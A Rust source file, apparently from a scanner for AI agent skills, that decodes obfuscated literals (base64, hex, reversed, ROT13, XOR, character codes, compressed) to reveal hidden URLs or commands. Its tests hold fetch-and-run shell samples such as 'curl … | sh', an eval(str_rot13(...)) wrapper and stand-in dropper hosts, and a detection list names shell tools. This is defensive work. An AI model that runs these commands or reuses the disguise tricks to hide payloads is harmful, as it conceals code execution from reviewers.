//! Decoding what a skill hides in its literals, so that the rules read the endpoint or the
//! command behind them: base64, hex and `\xNN` escapes ([`decode`]); and, in any language,
//! whatever a literal or a list of numbers hides by the common tricks of droppers — reversed,
//! ROT13, character codes, XOR with one byte, compressed, or encoded twice ([`hidden`]). Only
//! text that decodes to readable text counts: binary test data (an image, a key) decodes to
//! bytes that are not.

use base64::Engine as _;

/// Shortest encoded literal worth decoding.
const MIN_LEN: usize = 12;
/// Longest decoded: a payload of a page is plenty to judge.
const MAX_LEN: usize = 64 * 1024;

/// The readable text `s` encodes in base64 (standard or URL-safe, padded or not), hex or `\xNN`
/// escapes, if it does.
pub fn decode(s: &str) -> Option<String> {
    let s = s.trim();
    if s.len() < MIN_LEN || s.len() > MAX_LEN * 2 {
        return None;
    }
    let bytes = if s.contains("\\x") {
        unescape_hex(s)?
    } else if s.len().is_multiple_of(2) && s.bytes().all(|b| b.is_ascii_hexdigit()) {
        hex::decode(s).ok()?
    } else if s
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
    {
        let trimmed = s.trim_end_matches('=');
        base64::engine::general_purpose::STANDARD_NO_PAD
            .decode(trimmed)
            .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(trimmed))
            .ok()?
    } else {
        return None;
    };
    readable(bytes)
}

fn unescape_hex(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() / 4);
    let mut rest = s;
    while let Some(i) = rest.find("\\x") {
        out.extend_from_slice(&rest.as_bytes()[..i]);
        let code = rest.get(i + 2..i + 4)?;
        out.push(u8::from_str_radix(code, 16).ok()?);
        rest = &rest[i + 4..];
    }
    out.extend_from_slice(rest.as_bytes());
    Some(out)
}

/// `bytes` as text when nearly all of it is printable.
fn readable(bytes: Vec<u8>) -> Option<String> {
    if bytes.len() < 4 {
        return None;
    }
    let printable = bytes.iter().filter(|&&b| printable(b)).count();
    if printable * 100 < bytes.len() * 95 {
        return None;
    }
    String::from_utf8(bytes).ok()
}

/// How a literal hides its text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hiding {
    /// Base64, hex or `\xNN` escapes: encodings with everyday uses too.
    Encoded,
    /// A list of character codes.
    CharCodes,
    Reversed,
    Rot13,
    /// XOR of every byte with this key.
    Xor(u8),
    /// zlib, gzip or raw deflate, then base64 or hex.
    Compressed,
    /// Encoded, then encoded again.
    Twice,
}

impl Hiding {
    /// Whether only a dropper hides text this way: a key, an image or a token is encoded, but
    /// nobody reverses, rotates or XORs an address to use it honestly.
    pub fn is_disguise(self) -> bool {
        !matches!(self, Hiding::Encoded)
    }

    pub fn describe(self) -> String {
        match self {
            Hiding::Encoded => "base64 or hex".into(),
            Hiding::CharCodes => "character codes".into(),
            Hiding::Reversed => "reversed text".into(),
            Hiding::Rot13 => "ROT13".into(),
            Hiding::Xor(key) => format!("bytes XORed with {key:#04x}"),
            Hiding::Compressed => "compressed, then encoded".into(),
            Hiding::Twice => "text encoded twice".into(),
        }
    }
}

/// A literal of a file that hides readable text: where it is, how, and the text.
#[derive(Debug, Clone)]
pub struct Hidden {
    pub start: usize,
    pub end: usize,
    pub how: Hiding,
    pub plain: String,
}

/// Most literals of one file decoded: a file of a thousand blobs is judged by its first ones.
const MAX_LITERALS: usize = 2048;
/// Longest quoted literal looked for.
const MAX_QUOTED: usize = 8192;
/// Shortest list of numbers read as bytes.
const MIN_CODES: usize = 8;

/// The literals of `text` that hide readable text, in any language: quoted strings (one line
/// each), long runs of base64 or hex characters, and lists of eight or more numbers
/// (`[104, 116, …]`, `{0x32, 0x2e, …}`), each decoded every way [`Hiding`] names. `wanted`
/// says which plain texts are worth reporting (the caller's test of what a dropper hides), so
/// that the XOR keys are tried until one gives such a text, not only a readable one.
pub fn hidden(text: &str, wanted: impl Fn(&str) -> bool) -> Vec<Hidden> {
    // Raw deflate has no header to recognise it by: it is tried only in a text that names an
    // inflater (PHP's `gzinflate`, Node's `inflateRawSync`, .NET's `DeflateStream`, zlib).
    let raw_deflate = ["inflate", "Inflate", "zlib", "DeflateStream"]
        .iter()
        .any(|w| text.contains(w));
    let mut out = Vec::new();
    let mut seen = 0;
    for (start, end) in literal_spans(text) {
        seen += 1;
        if seen > MAX_LITERALS {
            break;
        }
        let lit = &text[start..end];
        let found = if lit.as_bytes()[0].is_ascii_digit() && lit.contains(',') {
            codes(lit).and_then(|bytes| unmask(&bytes, Hiding::CharCodes, &wanted))
        } else {
            unhide(lit, raw_deflate, &wanted)
        };
        if let Some((how, plain)) = found {
            out.push(Hidden {
                start,
                end,
                how,
                plain,
            });
        }
    }
    out
}

/// What the string `lit` hides, the most telling way first.
fn unhide(
    lit: &str,
    raw_deflate: bool,
    wanted: &impl Fn(&str) -> bool,
) -> Option<(Hiding, String)> {
    if lit.len() < MIN_LEN || wanted(lit) {
        return None;
    }
    if let Some(plain) = decode(lit) {
        if wanted(&plain) {
            return Some((Hiding::Encoded, plain));
        }
        if let Some(inner) = decode(&plain).filter(|p| wanted(p)) {
            return Some((Hiding::Twice, inner));
        }
        return None;
    }
    // An address or a command keeps its punctuation reversed or rotated: text without any is
    // neither (most literals are words, and turning them costs more than the rest).
    if lit.len() <= MAX_QUOTED
        && lit
            .bytes()
            .any(|b| matches!(b, b':' | b'/' | b'|' | b'(' | b'.'))
    {
        let reversed: String = lit.chars().rev().collect();
        if wanted(&reversed) {
            return Some((Hiding::Reversed, reversed));
        }
        let rotated: String = lit.chars().map(rot13).collect();
        if wanted(&rotated) {
            return Some((Hiding::Rot13, rotated));
        }
        let both: String = reversed.chars().map(rot13).collect();
        if wanted(&both) {
            return Some((Hiding::Rot13, both));
        }
    }
    let bytes = raw(lit)?;
    if let Some(plain) = inflate(&bytes, raw_deflate).filter(|p| wanted(p)) {
        return Some((Hiding::Compressed, plain));
    }
    unmask(&bytes, Hiding::Encoded, wanted).filter(|(how, _)| *how != Hiding::Encoded)
}

/// Readable text of `bytes` as they are (reported as `plain_how`), or `XORed` with one byte.
fn unmask(
    bytes: &[u8],
    plain_how: Hiding,
    wanted: &impl Fn(&str) -> bool,
) -> Option<(Hiding, String)> {
    if bytes.len() < MIN_CODES {
        return None;
    }
    if let Some(plain) = readable(bytes.to_vec())
        && wanted(&plain)
    {
        return Some((plain_how, plain));
    }
    // Known plain text: a key is tried only where it turns two neighbouring bytes into the
    // first two of a word droppers hide (XOR keeps `a ^ b` of neighbours: one pass per word,
    // not one per key).
    let mut tried = [false; 256];
    for word in XOR_WORDS {
        let (w0, w1) = (word[0], word[1]);
        for pair in bytes.windows(2) {
            if pair[0] ^ pair[1] != w0 ^ w1 {
                continue;
            }
            let key = pair[0] ^ w0;
            if key == 0 || std::mem::replace(&mut tried[usize::from(key)], true) {
                continue;
            }
            if let Some(plain) = readable(bytes.iter().map(|b| b ^ key).collect())
                && wanted(&plain)
            {
                return Some((Hiding::Xor(key), plain));
            }
        }
    }
    None
}

/// Words whose first two letters a XOR key is looked for by (lower case: text in capitals
/// XORs to its own key).
const XOR_WORDS: &[&[u8]] = &[
    b"ht", b"HT", b":/", b"cu", b"wg", b"ba", b"/b", b"sh", b"ev", b"ex", b"po", b"Po", b"im",
    b"re", b"~/", b".s", b"nc", b"py", b"no",
];

/// The bytes base64 or hex encode, readable or not.
fn raw(s: &str) -> Option<Vec<u8>> {
    let s = s.trim();
    if s.len() < MIN_LEN || s.len() > MAX_LEN * 2 {
        return None;
    }
    if s.len().is_multiple_of(2) && s.bytes().all(|b| b.is_ascii_hexdigit()) {
        return hex::decode(s).ok();
    }
    if !s
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
    {
        return None;
    }
    let trimmed = s.trim_end_matches('=');
    base64::engine::general_purpose::STANDARD_NO_PAD
        .decode(trimmed)
        .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(trimmed))
        .ok()
}

/// Readable text of zlib or gzip data, or of raw deflate when `raw_deflate`.
fn inflate(bytes: &[u8], raw_deflate: bool) -> Option<String> {
    use std::io::Read as _;
    let mut out = Vec::new();
    let limit = u64::try_from(MAX_LEN).unwrap_or(u64::MAX);
    // Only data that says it is compressed is inflated: trying every blob (images, keys,
    // hashes) as raw deflate cost more than the rest of the decoding together.
    let read = match bytes {
        [0x1f, 0x8b, ..] => flate2::read::GzDecoder::new(bytes)
            .take(limit)
            .read_to_end(&mut out),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => flate2::read::ZlibDecoder::new(bytes)
            .take(limit)
            .read_to_end(&mut out),
        _ if raw_deflate => flate2::read::DeflateDecoder::new(bytes)
            .take(limit)
            .read_to_end(&mut out),
        _ => return None,
    };
    read.ok()?;
    readable(out)
}

/// The bytes a list of numbers spells, when each is a byte or a character code.
fn codes(list: &str) -> Option<Vec<u8>> {
    let mut bytes = Vec::new();
    for n in list.split(|c: char| c == ',' || c.is_whitespace()) {
        if n.is_empty() {
            continue;
        }
        let value = match n.strip_prefix("0x").or_else(|| n.strip_prefix("0X")) {
            Some(hex) => u32::from_str_radix(hex, 16).ok()?,
            None => n.parse().ok()?,
        };
        let ch = char::from_u32(value)?;
        let mut buf = [0; 4];
        bytes.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
    }
    Some(bytes)
}

fn rot13(c: char) -> char {
    match c {
        'a'..='m' | 'A'..='M' => char::from(c as u8 + 13),
        'n'..='z' | 'N'..='Z' => char::from(c as u8 - 13),
        _ => c,
    }
}

fn printable(b: u8) -> bool {
    b.is_ascii_graphic() || matches!(b, b' ' | b'\n' | b'\t' | b'\r')
}

/// Where the literals of `text` are, in order: the insides of quotes on one line, runs of 24
/// or more base64 characters, and lists of eight or more numbers. Each kind is found by a
/// search of its own that skips the text it cannot be in (most of a file is prose and code).
fn literal_spans(text: &str) -> Vec<(usize, usize)> {
    /// Base64's characters (the letters, digits, `+` and `/`).
    const RUN: [bool; 256] = {
        let mut t = [false; 256];
        let mut c: u8 = 0;
        loop {
            t[c as usize] = c.is_ascii_alphanumeric() || c == b'+' || c == b'/';
            if c == u8::MAX {
                break t;
            }
            c += 1;
        }
    };
    const MIN_RUN: usize = 24;
    let bytes = text.as_bytes();
    let mut spans = Vec::new();
    // Quotes. (The inside of one is searched too: a string may hold a run or a list of its
    // own, `"$(printf %s 6375… | xxd -r -p)"`.)
    for i in memchr::memchr3_iter(b'"', b'\'', b'`', bytes) {
        if apostrophe(bytes, i) {
            continue;
        }
        // A quote closed within [`MAX_QUOTED`] bytes: every quote of a long minified line is
        // looked at, so the look is bounded.
        let quote = bytes[i];
        let limit = (i + MAX_QUOTED).min(bytes.len());
        let mut j = i + 1;
        while j < limit
            && let Some(k) = memchr::memchr3(quote, b'\n', b'\\', &bytes[j..limit])
        {
            j += k;
            if bytes[j] != b'\\' {
                break;
            }
            j += 2;
        }
        if j < limit && bytes[j] == quote && j - i > MIN_LEN {
            spans.push((i + 1, j));
        }
    }
    // Lists of numbers: the number before a comma starts one (a list has a comma after its
    // first number).
    let mut listed = 0;
    for comma in memchr::memchr_iter(b',', bytes) {
        if comma < listed {
            continue;
        }
        let mut e = comma;
        while e > 0 && matches!(bytes[e - 1], b' ' | b'\t') {
            e -= 1;
        }
        let mut s = e;
        while s > 0 && bytes[s - 1].is_ascii_alphanumeric() {
            s -= 1;
        }
        if s == e || !bytes[s].is_ascii_digit() {
            continue;
        }
        let end = number_list_end(bytes, s);
        if end > s {
            spans.push((s, end));
            listed = end;
        }
    }
    // Runs: the byte [`MIN_RUN`] - 1 ahead of a run's possible start is in the run, so a byte
    // that is not lets the search jump past it.
    let mut i = 0;
    while i + MIN_RUN <= bytes.len() {
        let probe = i + MIN_RUN - 1;
        if !RUN[usize::from(bytes[probe])] {
            i = probe + 1;
            continue;
        }
        let mut start = probe;
        while start > i && RUN[usize::from(bytes[start - 1])] {
            start -= 1;
        }
        let mut j = probe + 1;
        while j < bytes.len() && RUN[usize::from(bytes[j])] {
            j += 1;
        }
        // `=` pads the end of base64; inside a run it is an assignment (`X=6375…`).
        while j < bytes.len() && bytes[j] == b'=' {
            let next = bytes.get(j + 1).copied().unwrap_or(b' ');
            if RUN[usize::from(next)] {
                break;
            }
            j += 1;
        }
        if j - start >= MIN_RUN && (start == 0 || !matches!(bytes[start - 1], b'-' | b'_' | b'.')) {
            spans.push((start, j));
        }
        i = j + 1;
    }
    spans.sort_unstable();
    spans
}

/// Whether the quote at `at` is an apostrophe of an English contraction (`don't`, `it's`,
/// `we're`): after a letter, before `s`, `t`, `d`, `m`, `re`, `ve` or `ll` that end the word.
/// (Lua's `load'…'` and Python's `f'…'` open strings.)
fn apostrophe(bytes: &[u8], at: usize) -> bool {
    if bytes[at] != b'\'' || at == 0 || !bytes[at - 1].is_ascii_alphabetic() {
        return false;
    }
    let rest = &bytes[at + 1..];
    let len = rest
        .iter()
        .position(|b| !b.is_ascii_alphanumeric())
        .unwrap_or(rest.len());
    let suffix = &rest[..len.min(3)];
    ["s", "t", "d", "m", "re", "ve", "ll"]
        .iter()
        .any(|c| suffix.eq_ignore_ascii_case(c.as_bytes()))
}

/// The end of a list of [`MIN_CODES`] or more numbers starting at `start` (separated by commas
/// and spaces), or `start` when there is none.
fn number_list_end(bytes: &[u8], start: usize) -> usize {
    let mut count = 0;
    let mut i = start;
    let mut end = start;
    loop {
        let n_start = i;
        if bytes.get(i) == Some(&b'0') && matches!(bytes.get(i + 1), Some(b'x' | b'X')) {
            i += 2;
            while bytes.get(i).is_some_and(u8::is_ascii_hexdigit) {
                i += 1;
            }
        } else {
            while bytes.get(i).is_some_and(u8::is_ascii_digit) {
                i += 1;
            }
        }
        if i == n_start || i - n_start > 8 || bytes.get(i).is_some_and(u8::is_ascii_alphabetic) {
            break;
        }
        count += 1;
        end = i;
        let mut j = i;
        while matches!(bytes.get(j), Some(b' ' | b'\t')) {
            j += 1;
        }
        if bytes.get(j) != Some(&b',') {
            break;
        }
        j += 1;
        while matches!(bytes.get(j), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            j += 1;
        }
        if !bytes.get(j).is_some_and(u8::is_ascii_digit) {
            break;
        }
        i = j;
    }
    if count >= MIN_CODES { end } else { start }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn contractions_open_no_string_but_quotes_after_words_do() {
        let spans = |t: &str| -> Vec<String> {
            literal_spans(t)
                .into_iter()
                .map(|(a, b)| t[a..b].to_owned())
                .filter(|l| l.contains(' '))
                .collect()
        };
        // Prose: the apostrophes of `don't` and `it's` are no quotes.
        assert!(spans("Don't run it; it's fine, we're done and they'll see.\n").is_empty());
        // Lua calls with a string and no parentheses; Python's prefixes open strings.
        assert_eq!(spans("os.execute'hs | lruc -s x'\n"), ["hs | lruc -s x"]);
        assert_eq!(spans("run(f'curl -s {u} | sh')\n"), ["curl -s {u} | sh"]);
        // A backslash escapes the quote; a newline ends the look.
        let escaped = spans("x = \"a \\\" b c d e f g\"\n");
        assert_eq!(
            escaped.first().map(String::as_str),
            Some("a \\\" b c d e f g")
        );
        assert!(spans("x = \"a b c d e f g h i\ny\"\n").is_empty());
    }

    #[test]
    fn decodes_readable_text_only() {
        assert_eq!(
            decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvdA==").as_deref(),
            Some("https://collect.example/t")
        );
        assert_eq!(
            decode("68747470733a2f2f782e6578616d706c65").as_deref(),
            Some("https://x.example")
        );
        assert_eq!(
            decode("\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f").as_deref(),
            Some("https://")
        );
        assert_eq!(decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"), None);
        assert_eq!(decode("short"), None);
        assert_eq!(decode("not base64 at all, with spaces"), None);
    }

    fn hides_url(text: &str) -> Option<(Hiding, String)> {
        hidden(text, |p| p.contains("https://"))
            .into_iter()
            .next()
            .map(|h| (h.how, h.plain))
    }

    #[test]
    fn finds_text_hidden_every_common_way() {
        let url = "https://drop.example/p";
        let reversed: String = url.chars().rev().collect();
        assert_eq!(
            hides_url(&format!("x = \"{reversed}\"")),
            Some((Hiding::Reversed, url.into()))
        );
        let rot: String = url.chars().map(rot13).collect();
        assert_eq!(
            hides_url(&format!("eval(str_rot13('{rot}'))")),
            Some((Hiding::Rot13, url.into()))
        );
        let codes: Vec<String> = url.bytes().map(|b| b.to_string()).collect();
        assert_eq!(
            hides_url(&format!("[{}]", codes.join(", "))),
            Some((Hiding::CharCodes, url.into()))
        );
        let xored: Vec<String> = url.bytes().map(|b| format!("0x{:02x}", b ^ 0x5a)).collect();
        assert_eq!(
            hides_url(&format!("var k = []byte{{{}}}", xored.join(", "))),
            Some((Hiding::Xor(0x5a), url.into()))
        );
        let b64 = base64::engine::general_purpose::STANDARD.encode(url);
        let twice = base64::engine::general_purpose::STANDARD.encode(&b64);
        assert_eq!(
            hides_url(&format!("'{twice}'")),
            Some((Hiding::Twice, url.into()))
        );
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut z, url.as_bytes()).unwrap();
        let packed = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
        assert_eq!(
            hides_url(&format!("\"{packed}\"")),
            Some((Hiding::Compressed, url.into()))
        );
        // A plain address is no hidden one; a hidden one in text that holds none is.
        assert_eq!(hides_url(&format!("\"{url}\"")), None);
        assert_eq!(hides_url("numbers 1, 2, 3, 4, 5, 6, 7, 8, 9, 10"), None);
    }

    proptest::proptest! {
        /// Any text is read without a panic, and every literal found lies on characters.
        #[test]
        fn hidden_reads_any_text(text in "(?s).{0,400}") {
            for h in hidden(&text, |_| true) {
                proptest::prop_assert!(text.is_char_boundary(h.start) && text.is_char_boundary(h.end));
            }
        }
    }
}
